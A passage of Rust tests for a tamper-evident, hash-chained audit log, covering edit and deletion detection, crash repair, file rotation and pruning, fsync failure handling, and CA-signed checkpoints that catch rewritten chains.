            .replace("\"audit.repair\"", "\"audit.other\"");
        std::fs::write(&path, &edited).unwrap();
        drop(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        let after = std::fs::read_to_string(&path).unwrap();
        assert!(
            after.starts_with(&format!("{edited}\n")),
            "the edit was cut: {after}"
        );
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(4), "{v:?}");
        let repair: Value = serde_json::from_str(after.lines().nth(4).unwrap()).unwrap();
        assert!(repair["invalid_line_sha256"].is_string(), "{repair}");

        // A power loss just after a rotation: the new file holds only zeros. The repair
        // continues the rotated file's chain (it restarted at seq 1 before).
        std::fs::rename(&path, dir.path().join("audit.jsonl.2026-01-01T000000Z")).unwrap();
        std::fs::write(&path, "\0\0\0\0").unwrap();
        drop(Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap());
        let fresh = std::fs::read_to_string(&path).unwrap();
        let repair: Value = serde_json::from_str(fresh.lines().next().unwrap()).unwrap();
        assert_eq!(repair["event"], "audit.repair", "{repair}");
        let (_, last) = unseal(after.lines().last().unwrap()).unwrap();
        assert_eq!(
            (&repair["seq"], &repair["prev_hash"]),
            (&json!(5), &json!(last)),
            "{repair}"
        );
    }

    #[tokio::test]
    async fn chain_survives_restart_and_detects_edits() {
        let dir = tempfile::tempdir().unwrap();
        {
            let a = Audit::open(cfg(dir.path(), Durability::Fsync), OPENER).unwrap();
            for i in 0..3 {
                a.record(event(&format!("e{i}"))).await.unwrap();
            }
        }
        std::thread::sleep(Duration::from_millis(100));
        {
            let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
            a.record(event("after-restart")).await.unwrap();
        }
        std::thread::sleep(Duration::from_millis(100));
        let path = dir.path().join("audit.jsonl");
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.events, 4);

        let text = std::fs::read_to_string(&path).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        // Edit
        let edited = text.replace("\"e1\"", "\"eX\"");
        std::fs::write(&path, &edited).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(2), "{:?}", v.broken);
        // Delete a line in the middle
        let deleted = format!("{}\n{}\n{}\n", lines[0], lines[2], lines[3]);
        std::fs::write(&path, &deleted).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(2), "{:?}", v.broken);
        // Delete the first line (nothing rotated beside it to hold it)
        let headless = format!("{}\n{}\n{}\n", lines[1], lines[2], lines[3]);
        std::fs::write(&path, &headless).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(1), "{:?}", v.broken);
        // A byte that is not UTF-8, in the middle: that line, not an I/O error
        let mut garbled = lines[0].as_bytes().to_vec();
        garbled.extend(b"\n\xff\xfe\n");
        garbled.extend(lines[2].as_bytes());
        garbled.push(b'\n');
        std::fs::write(&path, &garbled).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert_eq!(v.broken.as_ref().map(|b| b.1), Some(2), "{:?}", v.broken);
        // Swap two lines
        let swapped = format!("{}\n{}\n{}\n{}\n", lines[0], lines[2], lines[1], lines[3]);
        std::fs::write(&path, &swapped).unwrap();
        assert!(
            verify(std::slice::from_ref(&path), None)
                .unwrap()
                .broken
                .is_some()
        );
        // Torn tail: reported as such, then repaired at the next start.
        let (_, last_hash) = unseal(lines[3]).unwrap();
        std::fs::write(
            &path,
            format!("{text}{{\"seq\":5,\"prev_hash\":\"{}", &last_hash[..20]),
        )
        .unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none() && v.torn_tail.is_some(), "{v:?}");
        {
            let a = Audit::open(cfg(dir.path(), Durability::Fsync), OPENER).unwrap();
            a.record(event("after-repair")).await.unwrap();
        }
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none() && v.torn_tail.is_none(), "{v:?}");
        let text = std::fs::read_to_string(&path).unwrap();
        let repair: Value = text
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .find(|e| e["event"] == "audit.repair")
            .expect("the repair is recorded");
        assert_eq!(repair["identity"]["comm"], "test", "{repair}");
        assert_eq!(v.events, 6);
    }

    #[tokio::test]
    async fn one_writer_per_log_and_a_fresh_file_continues_the_chain() {
        let dir = tempfile::tempdir().unwrap();
        let mut c = cfg(dir.path(), Durability::Fsync);
        c.max_file_bytes = 4096;
        let a = Audit::open(c.clone(), OPENER).unwrap();
        let e = Audit::open(c.clone(), OPENER)
            .err()
            .expect("a second writer is refused");
        assert!(e.to_string().contains("another interceptor daemon"), "{e}");
        for i in 0..30 {
            a.record(event(&format!("padding-event-{i:04}-{}", "x".repeat(40))))
                .await
                .unwrap();
        }
        drop(a);
        std::thread::sleep(Duration::from_millis(100));
        // The live file vanishes (logrotate, an operator): the next start continues the chain
        // from the newest rotated file.
        std::fs::remove_file(dir.path().join("audit.jsonl")).unwrap();
        let a = Audit::open(c, OPENER).unwrap();
        a.record(event("after")).await.unwrap();
        drop(a);
        let v = verify(&rotated_then_live(dir.path()), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        // The new file's first event continues the sequence of the rotated ones.
        let live = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap();
        let first: Value = serde_json::from_str(live.lines().next().unwrap()).unwrap();
        assert!(first["seq"].as_u64() > Some(1), "{first}");
    }

    #[tokio::test]
    async fn a_log_removed_or_renamed_while_open_is_re_created() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        a.record(event("first")).await.unwrap();
        // Removed: noticed at the next write.
        std::fs::remove_file(&path).unwrap();
        a.record(event("after-removal")).await.unwrap();
        assert_eq!(names(&path), ["after-removal"]);
        // Renamed away: noticed within the path check interval; until then the renamed file
        // gets the events.
        let moved = dir.path().join("moved.jsonl");
        std::fs::rename(&path, &moved).unwrap();
        std::thread::sleep(PATH_CHECK_INTERVAL + Duration::from_millis(20));
        a.record(event("after-rename")).await.unwrap();
        assert_eq!(names(&path), ["after-rename"]);
        assert_eq!(names(&moved), ["after-removal"]);
        // Replaced by another file while still linked elsewhere (so only the path comparison
        // can tell): the events go to the file now at the path, which the log locks.
        let kept = dir.path().join("kept.jsonl");
        std::fs::hard_link(&path, &kept).unwrap();
        let other = dir.path().join("other.jsonl");
        std::fs::write(&other, "").unwrap();
        std::fs::rename(&other, &path).unwrap();
        std::thread::sleep(PATH_CHECK_INTERVAL + Duration::from_millis(20));
        a.record(event("after-replace")).await.unwrap();
        assert_eq!(names(&path), ["after-replace"]);
        assert_eq!(names(&kept), ["after-rename"]);
        let again = File::open(&path).unwrap();
        assert!(lock_exclusive(&again).is_err(), "the new file is locked");
    }

    #[tokio::test]
    async fn an_unwritable_log_is_tried_at_a_bounded_pace_with_a_bounded_backlog() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        let writable = lock(&a.shared.writer).file.clone();
        // A handle that cannot write: every write fails (as on a full disk).
        lock(&a.shared.writer).file = Arc::new(File::open(&path).unwrap());
        a.record(event("refused")).await.unwrap_err();
        assert!(!a.healthy());
        // Tried again only after the pause: meanwhile refused without a write (which would
        // seal the whole backlog again).
        let e = a.record(event("paced")).await.unwrap_err().to_string();
        assert!(e.contains("at most every 200 ms"), "{e}");
        // What no caller waits for is kept, up to the byte bound: the oldest go.
        let blob = "a".repeat(1 << 20);
        for _ in 0..20 {
            lock(&a.shared.queue)
                .later
                .push(event("big").field("blob", &blob));
        }
        lock(&a.shared.writer).retried = None;
        a.shared.write(Vec::new()).unwrap_err();
        let kept: usize = lock(&a.shared.queue).later.iter().map(|e| e.0.len()).sum();
        assert!(
            kept <= MAX_BACKLOG_BYTES && kept > MAX_BACKLOG_BYTES / 2,
            "{kept}"
        );
        assert!(a.shared.stats.lost.load(Ordering::Relaxed) >= 4);
        // Past the event bound, the byte bound counts what that bound keeps: events dropped
        // for their number do not make it drop more.
        {
            let mut q = lock(&a.shared.queue);
            q.later.clear();
            let huge = "h".repeat(4 << 20);
            for _ in 0..5 {
                q.later.push(event("huge").field("blob", &huge));
            }
            for _ in 0..MAX_BACKLOG {
                q.later.push(event("small"));
            }
        }
        lock(&a.shared.writer).retried = None;
        a.shared.write(Vec::new()).unwrap_err();
        {
            let q = lock(&a.shared.queue);
            assert_eq!(q.later.len(), MAX_BACKLOG);
            assert!(q.later.iter().all(|e| e.0.len() < 1024));
        }
        // Repaired: taken at the first try after the pause.
        lock(&a.shared.writer).file = writable;
        lock(&a.shared.writer).retried = Some(Instant::now());
        a.record(event("still-paced")).await.unwrap_err();
        lock(&a.shared.writer).retried = Some(Instant::now() - UNHEALTHY_RETRY);
        a.record(event("after")).await.unwrap();
        assert!(a.healthy());
        let written = names(&path);
        assert_eq!(
            written.iter().filter(|n| *n == "small").count(),
            MAX_BACKLOG,
            "the kept events are written"
        );
        // The kept events go first, then the request's (an `audit.lost` may follow).
        let after = written.iter().position(|n| n == "after");
        assert!(
            after.is_some_and(|i| written[..i].iter().all(|n| n == "small")),
            "{written:?}"
        );
    }

    #[tokio::test]
    async fn a_file_the_writer_leaves_is_synced_first() {
        // What was written to a renamed (or rotated) file is synced before the writer moves on:
        // `fsync`-mode callers whose events are there wait for a sync that, later, covers the
        // new file only.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        let mut w = lock(&a.shared.writer);
        w.append(b"{}\n").unwrap();
        let syncs = a.shared.stats.syncs.load(Ordering::Relaxed);
        std::fs::rename(&path, dir.path().join("moved.jsonl")).unwrap();
        w.path_checked = Instant::now() - PATH_CHECK_INTERVAL;
        w.ensure_file().unwrap();
        assert!(!w.dirty, "the file left behind was synced");
        assert_eq!(a.shared.stats.syncs.load(Ordering::Relaxed), syncs + 1);
        // A failed sync of a left file: the waiters of its records are refused, however late
        // they ask; those of later records hear the new file's sync.
        w.write_batch(&[event("in-the-left-file")]).unwrap();
        let left = w.seq;
        w.mark_unsafe("fdatasync of the audit log file left behind failed".into());
        w.write_batch(&[event("after")]).unwrap();
        let after = w.seq;
        drop(w);
        for _ in 0..2 {
            let e = verdict(&a, left).unwrap_err().to_string();
            assert!(e.contains("left behind"), "{e}");
        }
        verdict(&a, after).unwrap();
    }

    /// What the audit thread tells a caller waiting for the records through `seq`.
    fn verdict(a: &Audit, seq: u64) -> Result<(), Error> {
        let result = a.shared.sync();
        let (tx, mut rx) = tokio::sync::oneshot::channel();
        a.shared.answer(vec![(tx, seq)], &result);
        rx.try_recv().expect("answered")
    }

    #[tokio::test]
    async fn deferred_events_beyond_the_bound_are_dropped_and_recorded_as_lost() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        // As if events came faster than the log took them (no real ones: the background
        // thread has nothing to write meanwhile).
        lock(&a.shared.queue).later_bytes = MAX_DEFERRED_BYTES;
        a.record_later(event("dropped"));
        assert_eq!(a.shared.stats.lost.load(Ordering::Relaxed), 1);
        lock(&a.shared.queue).later_bytes = 0;
        a.record_later(event("kept"));
        // The next write takes the kept one; the one after it records what was lost.
        a.record(event("now")).await.unwrap();
        a.record(event("next")).await.unwrap();
        let written = names(&path);
        assert_eq!(
            written,
            ["kept", "now", "audit.lost", "next"],
            "{written:?}"
        );
        assert!(
            std::fs::read_to_string(&path)
                .unwrap()
                .contains("\"events\":1")
        );
    }

    #[test]
    fn a_closed_log_has_written_what_was_deferred_and_syncs_no_more() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Fsync), OPENER).unwrap();
        a.record_later(event("deferred"));
        a.close();
        assert_eq!(names(&path), ["deferred"]);
        // Whoever still holds it: an fsync-mode record is refused at once, not left waiting
        // (written, not synced), and a deferred event is written at once, not left unwritten.
        let e = a.record_blocking(event("late")).unwrap_err().to_string();
        assert!(e.contains("stopped"), "{e}");
        a.record_later(event("deferred-after"));
        assert_eq!(names(&path), ["deferred", "late", "deferred-after"]);
        a.close();
    }

    #[tokio::test]
    async fn a_file_whose_fdatasync_failed_is_not_trusted_again() {
        // Linux reports a failed write-back once: a later sync of the same file may succeed
        // although what was written before it is lost.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let a = Audit::open(cfg(dir.path(), Durability::Write), OPENER).unwrap();
        {
            let mut w = lock(&a.shared.writer);
            w.append(b"{}\n").unwrap();
            w.poisoned = Some("fdatasync of the audit log failed: EIO".into());
        }
        // Every sync says so while the writer is on the file (the waiters' events are there).
        for _ in 0..2 {
            let e = a.shared.sync().unwrap_err().to_string();
            assert!(e.contains("EIO"), "{e}");
        }
        let before = FileId::of_path(&path).unwrap();
        let in_it = lock(&a.shared.writer).seq;
        // The next write goes to a new file: the waiters of records in the left one are
        // refused, however late they ask; those of the new one hear its sync.
        lock(&a.shared.writer).write_batch(&[event("x")]).unwrap();
        let now = FileId::of_path(&path).unwrap();
        assert!(!now.same_file(&before), "the untrusted file was left");
        // The new file's syncs failing at once too: the writer stays on it (a new file per
        // write would pile up), every sync refusing, until the wait has passed.
        lock(&a.shared.writer).poisoned = Some("fdatasync of the audit log failed: EIO".into());
        lock(&a.shared.writer).write_batch(&[event("y")]).unwrap();
        assert!(
            FileId::of_path(&path).unwrap().same_file(&now),
            "left again at once"
        );
        assert!(a.shared.sync().is_err());
        lock(&a.shared.writer).poison_left =
            Some((Instant::now() - POISON_WAIT_MAX, POISON_WAIT_MIN));
        lock(&a.shared.writer).write_batch(&[event("z")]).unwrap();
        assert!(
            !FileId::of_path(&path).unwrap().same_file(&now),
            "never left"
        );
        assert_eq!(
            lock(&a.shared.writer).poison_left.map(|(_, w)| w),
            Some(POISON_WAIT_MIN * 2),
            "the wait doubles"
        );
        // The waiters of records in the left files are refused, however late they ask; those
        // of the last one hear its sync (which, succeeding, ends the pacing).
        let last = lock(&a.shared.writer).seq;
        assert!(verdict(&a, in_it).unwrap_err().to_string().contains("EIO"));
        assert!(verdict(&a, last - 1).is_err());
        verdict(&a, last).unwrap();
        assert!(verdict(&a, in_it).is_err());
        assert!(lock(&a.shared.writer).poison_left.is_none());
    }

    #[test]
    fn tampered_multibyte_lines_do_not_panic() {
        assert!(unseal(&format!("{{\"a\":\"{}\"}}", "é".repeat(60))).is_none());
    }

    #[test]
    fn a_compressed_rotated_file_is_named_as_such_not_as_an_edit() {
        let dir = tempfile::tempdir().unwrap();
        let gz = dir.path().join("audit.jsonl.1.gz");
        std::fs::write(&gz, [0x1f, 0x8b, 8, 0, 0, 0]).unwrap();
        let e = verify(&[gz], None).unwrap_err().to_string();
        assert!(e.contains("gzip-compressed") && e.contains("zcat"), "{e}");
    }

    #[test]
    fn chains_at_the_ends_of_the_seq_range_are_refused_not_wrapped() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("audit.jsonl");
        let record = |seq: u64| {
            let (line, _) = seal_line(seq, GENESIS, &Event(b"\"event\":\"x\"".to_vec()));
            line
        };
        std::fs::write(&path, record(0)).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(
            v.broken.as_ref().is_some_and(|b| b.2.contains("seq 0")),
            "{v:?}"
        );
        // The last seq there is, then what looks like a torn write.
        let mut text = record(u64::MAX);
        text.extend_from_slice(b"{\"seq\":0");
        std::fs::write(&path, &text).unwrap();
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_some(), "{v:?}");
        // A daemon does not continue it (the next seq would wrap to 0).
        std::fs::write(&path, record(u64::MAX)).unwrap();
        let e = Audit::open(cfg(dir.path(), Durability::Write), OPENER)
            .err()
            .expect("refused")
            .to_string();
        assert!(e.contains("no record can follow"), "{e}");
    }

    #[tokio::test]
    async fn rotation_keeps_the_chain() {
        let dir = tempfile::tempdir().unwrap();
        let mut c = cfg(dir.path(), Durability::Fsync);
        c.max_file_bytes = 600;
        let a = Audit::open(c, OPENER).unwrap();
        for i in 0..10 {
            a.record(event(&format!("event-number-{i}"))).await.unwrap();
        }
        let files = rotated_then_live(dir.path());
        let v = verify(&files, None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.events, 10);
        assert_eq!(v.starts_at, None);
        // Given in any order (a shell glob puts the live file first): chain order is found.
        let mut shuffled = files.clone();
        shuffled.rotate_left(1);
        shuffled.reverse();
        let v = verify(&shuffled, None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!((v.events, &v.order), (10, &files));
        // Every file given, the oldest's first line deleted: nothing else could hold it.
        let oldest = &files[0];
        let text = std::fs::read_to_string(oldest).unwrap();
        let rest: String = text.lines().skip(1).map(|l| format!("{l}\n")).collect();
        std::fs::write(oldest, &rest).unwrap();
        let v = verify(&files, None).unwrap();
        assert_eq!(
            v.broken.as_ref().map(|b| (&b.0, b.1)),
            Some((oldest, 1)),
            "{v:?}"
        );
        std::fs::write(oldest, &text).unwrap();
        // The live file alone continues rotated ones: fine, and said so.
        let live = files.last().unwrap();
        let v = verify(std::slice::from_ref(live), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert!(v.starts_at.is_some_and(|s| s > 1), "{v:?}");
    }

    /// A log in `dir` rotating past 600 bytes and keeping 3 files, `n` events recorded.
    async fn pruning_log(dir: &Path, durability: Durability, n: usize) -> Audit {
        let mut c = cfg(dir, durability);
        c.max_file_bytes = 600;
        c.max_files = 3;
        let a = Audit::open(c, OPENER).unwrap();
        for i in 0..n {
            a.record(event(&format!("event-number-{i}"))).await.unwrap();
        }
        a
    }

    #[tokio::test]
    async fn max_files_prunes_the_oldest_rotated_files_and_verify_accepts_the_new_start() {
        let dir = tempfile::tempdir().unwrap();
        let live = dir.path().join("audit.jsonl");
        // An operator's copy is not the daemon's to delete.
        let copy = dir.path().join("audit.jsonl.bak");
        std::fs::write(&copy, "keep\n").unwrap();
        let _log = pruning_log(dir.path(), Durability::Fsync, 30).await;
        let rotated = rotated_files(&live);
        assert_eq!(rotated.len(), 2, "{rotated:?}");
        assert_eq!(std::fs::read_to_string(&copy).unwrap(), "keep\n");
        // The live file starts with the event naming what went, up to the oldest kept file.
        let (first_kept, first_prev) = first_record(&rotated[0]).unwrap();
        let text = std::fs::read_to_string(&live).unwrap();
        let first: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
        assert_eq!(first["event"], "audit.pruned", "{first}");
        assert_eq!(first["through_seq"], first_kept - 1, "{first}");
        assert_eq!(first["through_hash"], first_prev, "{first}");
        assert_eq!(first["max_files"], 3);
        let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
        let last_seq = last["seq"].as_u64().unwrap();
        assert!(
            first["files"].as_array().is_some_and(|f| !f.is_empty()),
            "{first}"
        );
        let mut kept = rotated.clone();
        kept.push(live.clone());
        let v = verify(&kept, None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.pruned_through, Some(first_kept - 1));
        assert_eq!(v.events, last_seq - (first_kept - 1));
        // A file deleted by hand is named by no event: the start is unexplained (the
        // operator's copy beside it, of the live file, holds no records before it).
        std::fs::copy(&live, &copy).unwrap();
        std::fs::remove_file(&rotated[0]).unwrap();
        let v = verify(&kept[1..], None).unwrap();
        let broken = v
            .broken
            .expect("a deleted file must break the chain's start");
        assert_eq!((&broken.0, broken.1), (&kept[1], 1));
        assert!(broken.2.contains("no audit.pruned event"), "{}", broken.2);
    }

    #[tokio::test]
    async fn max_files_prunes_in_chain_order_and_only_the_daemons_files() {
        let dir = tempfile::tempdir().unwrap();
        let live = dir.path().join("audit.jsonl");
        let a = pruning_log(dir.path(), Durability::Write, 12).await;
        let rotated = rotated_files(&live);
        assert_eq!(rotated.len(), 2, "{rotated:?}");
        // The clock stepped back: the newest rotated file's name now sorts first. Its records
        // are the newest still, and must outlive the older file's.
        let back = dir.path().join("audit.jsonl.2000-01-01T000000.000000Z");
        std::fs::rename(&rotated[1], &back).unwrap();
        let (kept_seq, _) = first_record(&back).unwrap();
        // Up to the next pruning.
        for i in 12..40 {
            a.record(event(&format!("event-number-{i}"))).await.unwrap();
            if !rotated[0].exists() {
                break;
            }
        }
        assert!(!rotated[0].exists(), "the oldest file was not pruned");
        assert!(back.exists(), "the newer records were deleted");
        let mut kept = rotated_files(&live);
        kept.push(live.clone());
        let v = verify(&kept, None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert!(v.pruned_through.is_some_and(|t| t < kept_seq), "{v:?}");
        // A file of another user is not the daemon's to delete, and nothing newer goes around
        // it (a hole in the chain): pruning stops there. (Giving a file away takes root, as
        // the daemon runs.)
        if !nix::unistd::geteuid().is_root() {
            eprintln!("not root: the other user's file case is not checked");
            return;
        }
        std::os::unix::fs::chown(&back, Some(65534), None).unwrap();
        for i in 40..80 {
            a.record(event(&format!("event-number-{i}"))).await.unwrap();
            if rotated_files(&live).len() > 2 {
                break;
            }
        }
        assert!(back.exists(), "another user's file was deleted");
        assert_eq!(rotated_files(&live).len(), 3, "files were deleted past it");
        let mut all = rotated_files(&live);
        all.push(live.clone());
        let v = verify(&all, None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
    }

    #[test]
    fn rotation_stamps_are_the_daemons_own_names_only() {
        assert!(is_rotation_stamp("2026-11-27T230858.732993Z"));
        for other in [
            "bak",
            "1",
            "2026-11-27T230858.732993",
            "2026-11-27T23:08:58.732993Z",
            "2026-11-27T230858.73299xZ",
        ] {
            assert!(!is_rotation_stamp(other), "{other}");
        }
    }

    /// A node CA in `dir` and the key set that verifies what it signs.
    fn node_ca(dir: &Path) -> (crate::ca::NodeCa, crate::ca::Jwks) {
        let (cert, key) = crate::ca::init(dir, "test-node").unwrap();
        let ca = crate::ca::NodeCa::load(&crate::ca::RawCa {
            cert,
            key,
            leaf_ttl: "1h".into(),
        })
        .unwrap();
        let jwks = crate::ca::Jwks::parse(&ca.jwks().to_string()).unwrap();
        (ca, jwks)
    }

    /// `path`'s records rewritten from the first whose text contains `from` on: `edit` applied
    /// to their text (a record it empties is dropped), renumbered and every hash after
    /// recomputed, as one who may write the file can.
    fn rewrite_chain(path: &Path, from: &str, edit: impl Fn(&str) -> String) {
        rewrite_chain_after(path, None, from, edit);
    }

    /// [`rewrite_chain`] of a file that continues the record `prev` (seq, hash).
    fn rewrite_chain_after(
        path: &Path,
        mut prev: Option<(u64, String)>,
        from: &str,
        edit: impl Fn(&str) -> String,
    ) {
        let text = std::fs::read_to_string(path).unwrap();
        let mut out = String::new();
        let mut rewriting = false;
        for line in text.lines() {
            let (body, hash) = unseal(line).unwrap();
            let seq = serde_json::from_str::<Value>(&body).unwrap()["seq"]
                .as_u64()
                .unwrap();
            rewriting |= line.contains(from);
            if !rewriting {
                out.push_str(line);
                out.push('\n');
                prev = Some((seq, hash.to_owned()));
                continue;
            }
            // {"seq":N,"prev_hash":"…",<members>}
            let members = body.split_once("\",").unwrap().1.strip_suffix('}').unwrap();
            let (seq, before) = match &prev {
                Some((s, h)) => (s + 1, h.clone()),
                None => (seq, GENESIS.to_owned()),
            };
            let members = edit(members);
            if members.is_empty() {
                // Dropped.
                continue;
            }
            let (sealed, hash) = seal_line(seq, &before, &Event(members.into_bytes()));
            out.push_str(std::str::from_utf8(&sealed).unwrap());
            prev = Some((seq, hash));
        }
        std::fs::write(path, out).unwrap();
    }

    #[test]
    fn checkpoints_sign_the_chain_so_a_rewrite_needs_the_ca_key() {
        let dir = tempfile::tempdir().unwrap();
        let (ca, jwks) = node_ca(&dir.path().join("ca"));
        let path = dir.path().join("audit.jsonl");
        let mut c = cfg(dir.path(), Durability::Write);
        c.checkpoint_interval = "100ms".into();
        {
            let a = Audit::open(c.clone(), OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
            a.record_blocking(event("first")).unwrap();
            assert!(
                shows_up(&path, "audit.checkpoint", Duration::from_secs(5)),
                "no checkpoint within the interval"
            );
            a.record_blocking(event("second")).unwrap();
            // Nothing else: the stop signs "second".
        }
        let text = std::fs::read_to_string(&path).unwrap();
        let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
        assert_eq!(last["event"], "audit.checkpoint", "{text}");
        assert_eq!(last["through_seq"], 3, "{text}");
        assert_eq!(last["records"], 1, "{text}");
        assert_eq!(last["kid"], ca.kid());
        // No empty checkpoints while nothing is written.
        assert_eq!(text.matches("audit.checkpoint").count(), 2, "{text}");
        let v = verify(std::slice::from_ref(&path), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(
            (v.checkpoints, v.signed_through, v.unsigned()),
            (2, Some(3), 0)
        );

        // Another node's key set does not hold the key.
        let (_, other) = node_ca(&dir.path().join("other"));
        let v = verify(std::slice::from_ref(&path), Some(&other)).unwrap();
        let (_, line, why) = v.broken.unwrap();
        assert_eq!(line, 2);
        assert!(why.contains("does not hold"), "{why}");

        // An edit with every hash recomputed passes the bare chain, not the signatures.
        rewrite_chain(&path, "\"second\"", |m| m.replace("second", "benign"));
        let v = verify(std::slice::from_ref(&path), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        let v = verify(std::slice::from_ref(&path), Some(&jwks)).unwrap();
        let (_, line, why) = v.broken.unwrap();
        assert_eq!(line, 4, "{why}");
        assert!(why.contains("not the record before it"), "{why}");

        // Dropping the checkpoints after the edit leaves it unsigned, which verify reports.
        let kept: Vec<&str> = text.lines().take(2).collect();
        std::fs::write(&path, format!("{}\n", kept.join("\n"))).unwrap();
        let mut more = std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap();
        let (line, _) = seal_line(3, unseal(kept[1]).unwrap().1, &Event::new("forged"));
        more.write_all(&line).unwrap();
        let v = verify(std::slice::from_ref(&path), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!((v.signed_through, v.unsigned()), (Some(1), 1));
    }

    #[test]
    fn a_rotated_file_ends_signed_and_a_restart_signs_what_a_crash_left() {
        let dir = tempfile::tempdir().unwrap();
        let (ca, jwks) = node_ca(&dir.path().join("ca"));
        let logs = dir.path().join("log");
        let live = logs.join("audit.jsonl");
        let mut c = cfg(&logs, Durability::Write);
        c.max_file_bytes = 4096;
        // Longer than the test: only rotations and stops sign.
        c.checkpoint_interval = "1h".into();
        {
            let a = Audit::open(c.clone(), OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
            for i in 0..40 {
                a.record_blocking(event(&format!("event-number-{i:0>200}")))
                    .unwrap();
            }
        }
        let files = rotated_then_live(&logs);
        assert!(files.len() > 2, "{files:?}");
        for f in &files {
            let text = std::fs::read_to_string(f).unwrap();
            let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
            assert_eq!(last["event"], "audit.checkpoint", "{}", f.display());
        }
        let v = verify(&files, Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.unsigned(), 0);
        // A rotated file alone verifies up to its end.
        let v = verify(&files[..1], Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.unsigned(), 0);

        // A rotated file whose closing checkpoint is gone (the next file's chain recomputed
        // to hide it) fails there.
        let seq_of = |line: &str| serde_json::from_str::<Value>(line).unwrap()["seq"].as_u64();
        let signed_end = seq_of(
            std::fs::read_to_string(&files[files.len() - 2])
                .unwrap()
                .lines()
                .last()
                .unwrap(),
        )
        .unwrap();
        // (The first file's closing checkpoint is the first: signing has begun after it.)
        let saved: Vec<String> = files[1..3]
            .iter()
            .map(|f| std::fs::read_to_string(f).unwrap())
            .collect();
        let cut = saved[0].trim_end().rfind('\n').map_or(0, |i| i + 1);
        std::fs::write(&files[1], &saved[0][..cut]).unwrap();
        let tail = saved[0][..cut].lines().last().unwrap().to_owned();
        let tail_hash = unseal(&tail).unwrap().1.to_owned();
        // The later file's checkpoints go too (they sign the old hashes).
        rewrite_chain_after(
            &files[2],
            Some((seq_of(&tail).unwrap(), tail_hash)),
            "",
            |m| {
                if m.contains(CHECKPOINT_MARK) {
                    String::new()
                } else {
                    m.to_owned()
                }
            },
        );
        let v = verify(&files[..3], Some(&jwks)).unwrap();
        let (file, _, why) = v.broken.expect("a rotated file must end signed");
        assert_eq!(file, files[1]);
        assert!(why.contains("does not end in a signed checkpoint"), "{why}");
        for (f, text) in files[1..3].iter().zip(&saved) {
            std::fs::write(f, text).unwrap();
        }

        // A run without a stop (its checkpoint cut off, as a kill leaves it): the next run's
        // first checkpoint signs its records, saying they were found so.
        let text = std::fs::read_to_string(&live).unwrap();
        let cut = text.trim_end().rfind('\n').map_or(0, |i| i + 1);
        std::fs::write(&live, &text[..cut]).unwrap();
        let found = seq_of(text[..cut].lines().last().unwrap()).unwrap();
        let v = verify(&files, Some(&jwks)).unwrap();
        assert!(v.unsigned() > 0);
        {
            let a = Audit::open(c.clone(), OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
        }
        let v = verify(&files, Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.unsigned(), 0);
